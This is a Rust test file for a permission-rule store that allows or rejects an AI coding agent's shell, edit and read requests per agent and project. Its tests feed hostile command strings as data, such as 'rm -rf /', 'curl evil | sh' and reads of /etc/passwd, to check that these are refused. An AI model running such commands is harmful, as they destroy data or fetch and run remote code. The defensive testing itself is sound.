use super::*;
use serde_json::json;

fn exec(cmd: &str) -> Subject {
    Subject::from_parts(
        Some(acp::ToolKind::Execute),
        Some(&format!("`{cmd}`")),
        Some(&json!({ "command": cmd, "timeout": 60000 })),
        &[],
        None,
    )
}

fn edit(path: &Path) -> Subject {
    Subject::from_parts(
        Some(acp::ToolKind::Edit),
        Some("Edit"),
        Some(&json!({ "file_path": path, "old_string": "a", "new_string": "b" })),
        &[],
        None,
    )
}

fn rule(project: &Path, kind: acp::ToolKind, target: Target, decision: Decision) -> NewRule {
    NewRule {
        agent: "claude".into(),
        project: project.to_owned(),
        tool: ToolMatcher { kind, target },
        decision,
        note: None,
    }
}

struct Fixture {
    dir: tempfile::TempDir,
    project: PathBuf,
    store: RuleStore,
}

impl Fixture {
    /// Adds a rule of agent `claude` for the fixture's project.
    fn add(&mut self, kind: acp::ToolKind, target: Target, decision: Decision) -> Rule {
        self.store
            .add(rule(&self.project, kind, target, decision))
            .unwrap()
    }

    /// Whether a rule of agent `claude` for the fixture's project answers `subject`.
    fn matches(&self, subject: &Subject) -> bool {
        self.store.find("claude", &self.project, subject).is_some()
    }
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("proj");
    std::fs::create_dir(&project).unwrap();
    let project = project.canonicalize().unwrap();
    let (store, warning) =
        RuleStore::open(dir.path().join("config").join(RULES_FILE_NAME)).unwrap();
    assert!(warning.is_none());
    Fixture {
        dir,
        project,
        store,
    }
}

#[test]
fn subject_from_real_claude_code_prompts() {
    // From tests/real-agents/transcripts (claude-code-acp 0.16.2).
    let ev: AgentPromptEvent = serde_json::from_value(json!({
        "sessionId": "s", "toolCallId": "toolu_1#1", "targetToolCallId": "toolu_1",
        "options": [{"optionId": "allow_always", "name": "Always Allow", "kind": "allow_always"}],
        "toolName": "`echo hi-from-bash > out.txt && cat out.txt`",
        "rawInput": {"command": "echo hi-from-bash > out.txt && cat out.txt", "timeout": 60000},
        "toolKind": "execute"
    }))
    .unwrap();
    let s = Subject::from_prompt(&ev, None);
    assert_eq!(s.kind, acp::ToolKind::Execute);
    assert_eq!(
        s.command.as_deref(),
        Some("echo hi-from-bash > out.txt && cat out.txt")
    );
    assert_eq!(
        s.exact_matcher().unwrap().target,
        Target::Command("echo hi-from-bash > out.txt && cat out.txt".into())
    );

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().canonicalize().unwrap().join("new.txt");
    let ev: AgentPromptEvent = serde_json::from_value(json!({
        "sessionId": "s", "toolCallId": "toolu_2#1", "targetToolCallId": "toolu_2",
        "options": [],
        "toolName": format!("Write {}", file.display()),
        "rawInput": {"file_path": file, "content": "x"},
        "toolKind": "edit",
        "locations": [{"path": file}]
    }))
    .unwrap();
    let s = Subject::from_prompt(&ev, None);
    assert_eq!(s.paths, vec![file.clone()]);
    assert_eq!(s.exact_matcher().unwrap().target, Target::Path(file));
}

#[test]
fn subject_command_as_words_and_relative_paths() {
    // codex-acp sends the command as an array of words.
    let s = Subject::from_parts(
        Some(acp::ToolKind::Execute),
        Some("ls"),
        Some(&json!({ "command": ["bash", "-lc", "ls -la"] })),
        &[],
        None,
    );
    assert_eq!(s.command.as_deref(), Some("bash -lc 'ls -la'"));

    let dir = tempfile::tempdir().unwrap();
    let cwd = dir.path().canonicalize().unwrap();
    std::fs::create_dir(cwd.join("src")).unwrap();
    let s = Subject::from_parts(
        Some(acp::ToolKind::Read),
        None,
        Some(&json!({ "path": "src/../src/main.rs" })),
        &[],
        Some(&cwd),
    );
    assert_eq!(s.paths, vec![cwd.join("src").join("main.rs")]);
    // Relative without a cwd, and `..` below a missing folder: no path.
    let s = Subject::from_parts(
        Some(acp::ToolKind::Read),
        None,
        Some(&json!({ "path": "x.rs", "abs_path": cwd.join("nope/../../etc/passwd") })),
        &[],
        None,
    );
    assert!(s.paths.is_empty());
    assert_eq!(s.exact_matcher(), None);
}

#[test]
fn exact_command() {
    let mut f = fixture();
    f.add(
        acp::ToolKind::Execute,
        Target::Command("  cargo test  ".into()),
        Decision::Allow,
    );
    assert!(f.matches(&exec("cargo test")));
    assert!(f.matches(&exec(" cargo test\n")));
    assert!(!f.matches(&exec("cargo test --all")));
    assert!(!f.matches(&exec("cargo test && rm -rf /")));
    // Another kind with the same text does not match.
    let other = Subject {
        kind: acp::ToolKind::Other,
        ..exec("cargo test")
    };
    assert!(!f.matches(&other));
}

#[test]
fn exact_compound_command_matches_itself_only() {
    let mut f = fixture();
    let cmd = "echo hi > out.txt && cat out.txt";
    f.add(
        acp::ToolKind::Execute,
        Target::Command(cmd.into()),
        Decision::Allow,
    );
    assert!(f.matches(&exec(cmd)));
    assert!(
        f.store
            .find(
                "claude",
                &f.project,
                &exec("echo hi > out.txt && cat out.txt; rm x")
            )
            .is_none()
    );
}

#[test]
fn exact_path() {
    let mut f = fixture();
    let a = f.project.join("a.txt");
    let b = f.project.join("b.txt");
    f.add(
        acp::ToolKind::Edit,
        Target::Path(a.clone()),
        Decision::Allow,
    );
    assert!(f.matches(&edit(&a)));
    // The same file through `..` resolves to the same path.
    let via_dotdot = f.project.join("sub").join("..").join("a.txt");
    std::fs::create_dir(f.project.join("sub")).unwrap();
    assert!(f.matches(&edit(&via_dotdot)));
    assert!(!f.matches(&edit(&b)));
    // A request naming a second path as well is not covered.
    let both = Subject::from_parts(
        Some(acp::ToolKind::Edit),
        None,
        Some(&json!({ "file_path": a })),
        &[acp::ToolCallLocation::new(b.clone())],
        None,
    );
    assert!(!f.matches(&both));
}

#[test]
fn exact_title_for_other_tools() {
    let mut f = fixture();
    let mcp = Subject::from_parts(
        Some(acp::ToolKind::Other),
        Some("mcp__github__create_issue"),
        Some(&json!({ "title": "x" })),
        &[],
        None,
    );
    let m = mcp.exact_matcher().unwrap();
    assert_eq!(m.target, Target::Title("mcp__github__create_issue".into()));
    f.store
        .add(NewRule {
            agent: "claude".into(),
            project: f.project.clone(),
            tool: m,
            decision: Decision::Allow,
            note: None,
        })
        .unwrap();
    assert!(f.matches(&mcp));
    let other = Subject {
        title: Some("mcp__github__delete_repo".into()),
        ..mcp
    };
    assert!(!f.matches(&other));
}

#[test]
fn command_pattern() {
    let mut f = fixture();
    f.add(
        acp::ToolKind::Execute,
        Target::Pattern("ls*".into()),
        Decision::Allow,
    );
    for ok in ["ls", "ls -la", "ls -la /tmp/some/dir", "lsof"] {
        assert!(f.matches(&exec(ok)), "{ok}");
    }
    assert!(!f.matches(&exec("cat ls")));
}

#[test]
fn a_pattern_never_matches_a_compound_command() {
    let mut f = fixture();
    for p in ["ls*", "*", "git *"] {
        f.add(
            acp::ToolKind::Execute,
            Target::Pattern(p.into()),
            Decision::Allow,
        );
    }
    for bad in [
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls; rm x",
        "ls | sh",
        "ls & rm x",
        "ls $(rm x)",
        "ls `rm x`",
        "ls > /etc/passwd",
        "ls < /dev/zero",
        "ls\nrm x",
        "ls\rrm x",
        "git status; curl evil | sh",
    ] {
        assert!(!f.matches(&exec(bad)), "{bad:?} matched a pattern");
    }
    // The same through a codex-style word array, and through a title-only request.
    let words = Subject::from_parts(
        Some(acp::ToolKind::Execute),
        None,
        Some(&json!({ "command": ["bash", "-lc", "ls && rm -rf x"] })),
        &[],
        None,
    );
    assert!(!f.matches(&words));
    let title_only = Subject::from_parts(
        Some(acp::ToolKind::Execute),
        Some("ls; rm x"),
        None,
        &[],
        None,
    );
    assert!(!f.matches(&title_only));
    // A pattern whose text is exactly the command is an exact match.
    f.add(
        acp::ToolKind::Execute,
        Target::Pattern("make && make test".into()),
        Decision::Allow,
    );
    assert!(f.matches(&exec("make && make test")));
}

#[test]
fn path_pattern() {
    let mut f = fixture();
    let pattern = format!("{}/src/**/*.rs", f.project.display());
    f.add(
        acp::ToolKind::Edit,
        Target::Pattern(pattern),
        Decision::Allow,
    );
    assert!(f.matches(&edit(&f.project.join("src/a/b.rs"))));
    assert!(!f.matches(&edit(&f.project.join("src/b.txt"))));
    assert!(!f.matches(&edit(&f.project.join("b.rs"))));
}

#[test]
fn bad_pattern_is_refused() {
    let mut f = fixture();
    let err = f
        .store
        .add(rule(
            &f.project,
            acp::ToolKind::Execute,
            Target::Pattern("ls[".into()),
            Decision::Allow,
        ))
        .unwrap_err();
    assert!(matches!(err, RulesError::BadPattern { .. }), "{err}");
    assert!(f.store.list(None, None).is_empty());
}

#[test]
fn reject_beats_allow() {
    let mut f = fixture();
    f.add(
        acp::ToolKind::Execute,
        Target::Pattern("git *".into()),
        Decision::Allow,
    );
    f.add(
        acp::ToolKind::Execute,
        Target::Command("git push --force".into()),
        Decision::Reject,
    );
    let r = f
        .store
        .find("claude", &f.project, &exec("git push --force"))
        .unwrap();
    assert_eq!(r.decision, Decision::Reject);
    let r = f
        .store
        .find("claude", &f.project, &exec("git status"))
        .unwrap();
    assert_eq!(r.decision, Decision::Allow);
}

#[test]
fn per_agent_and_per_project() {
    let mut f = fixture();
    let other_project = f.dir.path().join("other");
    std::fs::create_dir(&other_project).unwrap();
    let other_project = other_project.canonicalize().unwrap();
    f.add(
        acp::ToolKind::Execute,
        Target::Command("make".into()),
        Decision::Allow,
    );
    assert!(f.matches(&exec("make")));
    assert!(f.store.find("gemini", &f.project, &exec("make")).is_none());
    assert!(
        f.store
            .find("claude", &other_project, &exec("make"))
            .is_none()
    );
    // A subfolder of the project is another project.
    assert!(
        f.store
            .find("claude", &f.project.join("sub"), &exec("make"))
            .is_none()
    );
    assert_eq!(f.store.list(Some("claude"), None).len(), 1);
    assert_eq!(f.store.list(Some("gemini"), None).len(), 0);
    assert_eq!(f.store.list(None, Some(&other_project)).len(), 0);
    assert_eq!(f.store.list(Some("claude"), Some(&f.project)).len(), 1);
}

#[test]
fn revoke() {
    let mut f = fixture();
    let r = f
        .store
        .add(rule(
            &f.project,
            acp::ToolKind::Execute,
            Target::Command("make".into()),
            Decision::Allow,
        ))
        .unwrap();
    assert_eq!(f.store.revoke(&r.id).unwrap(), r);
    assert!(!f.matches(&exec("make")));
    assert!(matches!(
        f.store.revoke(&r.id),
        Err(RulesError::UnknownId(_))
    ));
    let (reopened, _) = RuleStore::open(f.store.path()).unwrap();
    assert!(reopened.list(None, None).is_empty());
}

#[test]
fn persistence_round_trip_and_sharing() {
    let mut f = fixture();
    let a = f
        .store
        .add(NewRule {
            note: Some("from the CLI".into()),
            ..rule(
                &f.project,
                acp::ToolKind::Execute,
                Target::Command("make".into()),
                Decision::Allow,
            )
        })
        .unwrap();
    // A second process (the app) adds one; the first store keeps both when it changes.
    let (mut other, _) = RuleStore::open(f.store.path()).unwrap();
    let b = other
        .add(rule(
            &f.project,
            acp::ToolKind::Edit,
            Target::Path(f.project.join("x")),
            Decision::Reject,
        ))
        .unwrap();
    let c = f
        .store
        .add(rule(
            &f.project,
            acp::ToolKind::Read,
            Target::Pattern("**".into()),
            Decision::Allow,
        ))
        .unwrap();
    let (reopened, warning) = RuleStore::open(f.store.path()).unwrap();
    assert!(warning.is_none());
    let ids: Vec<_> = reopened.list(None, None).into_iter().cloned().collect();
    assert_eq!(ids, vec![a.clone(), b, c]);
    assert!(
        a.created_at.ends_with('Z') && a.created_at.len() == 24,
        "{}",
        a.created_at
    );
    let text = std::fs::read_to_string(f.store.path()).unwrap();
    assert!(text.contains("\"command\": \"make\""), "{text}");
    // No temp files left behind.
    let names: Vec<_> = std::fs::read_dir(f.store.path().parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 1, "{names:?}");
    let line = RuleStore::describe(&a);
    assert!(
        line.contains("allow execute command `make` for claude"),
        "{line}"
    );
    assert!(
        line.contains(&a.id) && line.contains("from the CLI"),
        "{line}"
    );
}

#[test]
fn corrupt_file_is_kept_aside_with_a_warning() {
    let f = fixture();
    let path = f.store.path().to_owned();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, b"{\"version\": 1, \"rules\": [ {oops").unwrap();
    let (mut store, warning) = RuleStore::open(&path).unwrap();
    let warning = warning.expect("a warning");
    assert!(store.list(None, None).is_empty());
    assert!(!path.exists());
    assert_eq!(
        std::fs::read(&warning.moved_to).unwrap(),
        b"{\"version\": 1, \"rules\": [ {oops"
    );
    assert!(
        warning
            .moved_to
            .to_string_lossy()
            .contains("permission-rules.json.bad-")
    );
    assert!(warning.to_string().contains("could not be read"));
    // The store works from empty and the bad file stays.
    store
        .add(rule(
            &f.project,
            acp::ToolKind::Execute,
            Target::Command("make".into()),
            Decision::Allow,
        ))
        .unwrap();
    assert!(warning.moved_to.exists());
    let (again, w) = RuleStore::open(&path).unwrap();
    assert!(w.is_none());
    assert_eq!(again.list(None, None).len(), 1);
}

#[test]
fn newer_format_is_left_untouched() {
    let f = fixture();
    let path = f.store.path().to_owned();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, br#"{"version": 2, "rules": []}"#).unwrap();
    assert!(matches!(
        RuleStore::open(&path),
        Err(RulesError::NewerFormat { found: 2, .. })
    ));
    assert_eq!(
        std::fs::read(&path).unwrap(),
        br#"{"version": 2, "rules": []}"#
    );
}

#[test]
fn reads_inside_roots() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap().join("proj");
    std::fs::create_dir(&root).unwrap();
    let read = |p: &Path| {
        Subject::from_parts(
            Some(acp::ToolKind::Read),
            None,
            Some(&json!({ "file_path": p })),
            &[],
            None,
        )
    };
    let roots = vec![root.clone()];
    assert!(is_read_inside(&read(&root.join("a.rs")), &roots));
    assert!(!is_read_inside(&read(&root.join("../secret")), &roots));
    assert!(!is_read_inside(&read(Path::new("/etc/passwd")), &roots));
    // A link inside pointing out is judged by its target.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
        assert!(!is_read_inside(&read(&root.join("etc/passwd")), &roots));
    }
    assert!(!is_read_inside(&edit(&root.join("a.rs")), &roots));
    let no_path = Subject::from_parts(Some(acp::ToolKind::Read), Some("Read"), None, &[], None);
    assert!(!is_read_inside(&no_path, &roots));
}

#[test]
fn shell_control_detection() {
    for c in [
        "a && b", "a || b", "a;b", "a|b", "a&", "`a`", "$(a)", "a>b", "a<b", "a\nb",
    ] {
        assert!(has_shell_control(c), "{c:?}");
    }
    for c in [
        "ls -la",
        "git log --oneline -n 5",
        "echo $HOME",
        "grep -r 'x y' .",
    ] {
        assert!(!has_shell_control(c), "{c:?}");
    }
}
